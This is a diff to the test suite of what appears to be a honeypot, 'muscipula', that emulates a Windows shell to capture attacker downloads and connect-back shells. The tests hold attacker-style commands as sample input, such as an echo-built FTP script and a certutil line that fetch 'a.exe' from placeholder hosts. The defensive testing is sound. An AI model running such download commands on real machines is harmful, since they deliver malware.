@@ -12,7 +12,7 @@ from muscipula.capture.bindstage import BindCatcher
 from muscipula.capture.cmdexe import Cmd, Host
 from muscipula.capture.connectback import ConnectBack
 from muscipula.capture.download.policy import Policy
-from muscipula.capture.shellsession import MAX_LINE, converse
+from muscipula.capture.shellsession import MAX_LINE, _offers, converse
 from muscipula.config import Download
 from muscipula.incidents import Bus, Incident
 from muscipula.store import Store
@@ -82,6 +82,13 @@ def test_a_dropper_session() -> None:
     asyncio.run(go())
 
 
+def test_a_script_named_many_times_is_read_once() -> None:
+    cmd = Cmd(HOST)
+    cmd.run("echo open 203.0.113.7> o&echo get a.exe>>o")
+    line = "ftp -s:o " + "-s:o " * 1600
+    assert _offers(cmd, line) == ["ftp://203.0.113.7/a.exe"]
+
+
 def test_session_bounds() -> None:
     async def go() -> None:
         bus = Bus()
@@ -134,6 +141,11 @@ def test_bind_shell_port_gets_a_cmd(tmp_path: Path) -> None:
         await asyncio.sleep(0.1)
         reader, writer = await asyncio.open_connection("127.0.0.1", port)
         assert await read_until(reader, PROMPT) == BANNER
+        try:  # the port was the attacker's, once: it is shut behind them
+            await asyncio.open_connection("127.0.0.1", port)
+            raise AssertionError("a second connection was let in")
+        except ConnectionRefusedError:
+            pass
         writer.write(b"certutil -urlcache -split -f http://203.0.113.9/a.exe a.exe\r\nexit\r\n")
         await asyncio.wait_for(reader.read(), 5)
         writer.close()
@@ -196,6 +208,11 @@ def test_connect_back_shell(tmp_path: Path) -> None:
         strict.service(_service(f"connectbackshell://127.0.0.1:{port}"))
         await asyncio.sleep(0.2)
         assert [f["reason"] for f in seen.named("download.failed")] == ["busy", "destination"]
+        # nor to the attacked host itself (an address allow_networks does not name)
+        back.service(Incident("emu.service", 9, 0.0, {
+            "url": "connectbackshell://192.0.2.1:4444", "kind": "shell",
+            "local_host": "192.0.2.1", "remote_host": "127.0.0.1"}))
+        assert seen.named("download.failed")[-1]["detail"] == "the attacked host itself"
         assert sessions.empty()
         server.close()
         await back.close()
